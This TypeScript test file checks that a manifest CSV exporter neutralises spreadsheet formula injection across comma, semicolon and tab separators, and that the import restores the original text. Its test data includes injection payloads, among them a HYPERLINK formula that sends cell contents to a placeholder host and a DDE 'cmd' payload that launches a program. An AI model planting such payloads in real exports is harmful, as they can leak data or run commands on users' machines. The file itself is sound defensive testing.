import { parse } from 'csv-parse/sync';
import { MANIFEST_HEADER, restoreFormulaText } from '../../src/exports/manifest-columns';
import { manifestCsvWriter } from '../../src/exports/manifest-csv';

/** Text that is harmless in a `,` spreadsheet yet a formula once another locale splits or a line starts. */
const HOSTILE = [
  'Boxes;=HYPERLINK("https://x.example/?"&A2,"x")',
  'Boxes,=1+1',
  'Boxes\t@SUM(A1:A9)',
  'Boxes;;-2+3',
  'Boxes;\t=1',
  'Line one\n=cmd|"/c calc"!A1',
  'Line one\r\n+1',
  "Boxes;'=already quoted",
  '=1+1',
];
const FORMULA_START = /^[=+\-@\t\r]/;

async function exportOf(rows: string[][]): Promise<string> {
  const csv = manifestCsvWriter(false);
  let text = '';
  csv.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
  const done = new Promise((resolve) => csv.on('end', resolve));
  for (const row of rows) csv.write(row);
  csv.end();
  await done;
  return text;
}

describe('manifest CSV in every locale', () => {
  const width = MANIFEST_HEADER.length;
  const rows = HOSTILE.map((text) => Array.from({ length: width }, (_, i) => (i === 5 ? text : `cell ${i}`)));

  it.each([',', ';', '\t'])(
    'holds no cell that starts a formula when read with %j as separator',
    async (delimiter) => {
      const cells = (
        parse(await exportOf(rows), { delimiter, relax_quotes: true, relax_column_count: true }) as string[][]
      ).flat();
      expect(cells.length).toBeGreaterThan(HOSTILE.length);
      for (const cell of cells) {
        expect(cell).not.toMatch(FORMULA_START);
        for (const line of cell.split(/\r\n|\r|\n/)) expect(line).not.toMatch(FORMULA_START);
      }
    },
  );

  it('quotes every cell holding a separator or a neutralised trigger, and the import restores the text', async () => {
    const text = await exportOf(rows);
    const read = parse(text, { relax_column_count: true }) as string[][];
    expect(read.slice(1).map((row) => restoreFormulaText(row[5]))).toEqual(HOSTILE);
    expect(text).toContain('"Boxes;\'=HYPERLINK(""https://x.example/?""&A2,""x"")"');
    expect(text).toContain(`"'=1+1"`);
  });
});
